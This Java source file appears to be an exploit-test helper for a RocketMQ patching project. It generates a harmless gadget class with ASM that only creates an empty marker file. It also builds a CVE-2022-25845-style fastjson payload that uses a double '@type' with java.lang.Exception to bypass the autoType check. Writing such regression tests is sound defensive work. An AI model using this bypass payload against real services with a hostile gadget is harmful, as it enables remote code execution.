package dev.rmqpatch.patches;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;

import org.objectweb.asm.ClassWriter;
import org.objectweb.asm.MethodVisitor;
import org.objectweb.asm.Opcodes;

/**
 * A harmless fastjson autoType gadget for the exploit tests: {@code rmqpatch.gadget.Marker extends Exception}, whose
 * setter {@code setMarker(String path)} creates an empty file at that path. Written with ASM as a Java 8 class file,
 * so the same jar goes on a JDK 8 or JDK 17 server's class path ({@code -Xbootclasspath/a:}, which a distribution's
 * bin scripts accept in JAVA_OPT without touching its lib/).
 */
final class Gadgets {

    static final String CLASS = "rmqpatch.gadget.Marker";

    private Gadgets() {
    }

    /** Writes the gadget jar into {@code dir} and returns its path. */
    static Path jar(Path dir) throws IOException {
        Path jar = dir.resolve("gadget.jar");
        try (OutputStream out = Files.newOutputStream(jar); JarOutputStream jos = new JarOutputStream(out)) {
            jos.putNextEntry(new JarEntry(CLASS.replace('.', '/') + ".class"));
            jos.write(markerClass());
            jos.closeEntry();
        }
        return jar;
    }

    /** The JVM flag that puts the gadget on a server's class path. */
    static String classPathFlag(Path jar) {
        return "-Xbootclasspath/a:" + jar.toAbsolutePath();
    }

    /**
     * The CVE-2022-25845-style value: {@code java.lang.Exception} passes fastjson 1.2.76's autoType check, and its
     * Throwable deserializer then loads and instantiates the second {@code @type} and calls its setters.
     */
    static String json(Path marker) {
        return "{\"@type\":\"java.lang.Exception\",\"@type\":\"" + CLASS + "\",\"marker\":\""
            + marker.toAbsolutePath().toString().replace("\\", "\\\\") + "\"}";
    }

    private static byte[] markerClass() {
        ClassWriter cw = new ClassWriter(ClassWriter.COMPUTE_FRAMES | ClassWriter.COMPUTE_MAXS);
        String name = CLASS.replace('.', '/');
        cw.visit(Opcodes.V1_8, Opcodes.ACC_PUBLIC | Opcodes.ACC_SUPER, name, null, "java/lang/Exception", null);
        MethodVisitor init = cw.visitMethod(Opcodes.ACC_PUBLIC, "<init>", "()V", null, null);
        init.visitCode();
        init.visitVarInsn(Opcodes.ALOAD, 0);
        init.visitMethodInsn(Opcodes.INVOKESPECIAL, "java/lang/Exception", "<init>", "()V", false);
        init.visitInsn(Opcodes.RETURN);
        init.visitMaxs(0, 0);
        init.visitEnd();
        // public void setMarker(String path) { new java.io.FileOutputStream(path).close(); }
        MethodVisitor set = cw.visitMethod(Opcodes.ACC_PUBLIC, "setMarker", "(Ljava/lang/String;)V", null,
            new String[] {"java/io/IOException"});
        set.visitCode();
        set.visitTypeInsn(Opcodes.NEW, "java/io/FileOutputStream");
        set.visitInsn(Opcodes.DUP);
        set.visitVarInsn(Opcodes.ALOAD, 1);
        set.visitMethodInsn(Opcodes.INVOKESPECIAL, "java/io/FileOutputStream", "<init>", "(Ljava/lang/String;)V", false);
        set.visitMethodInsn(Opcodes.INVOKEVIRTUAL, "java/io/FileOutputStream", "close", "()V", false);
        set.visitInsn(Opcodes.RETURN);
        set.visitMaxs(0, 0);
        set.visitEnd();
        cw.visitEnd();
        return cw.toByteArray();
    }
}
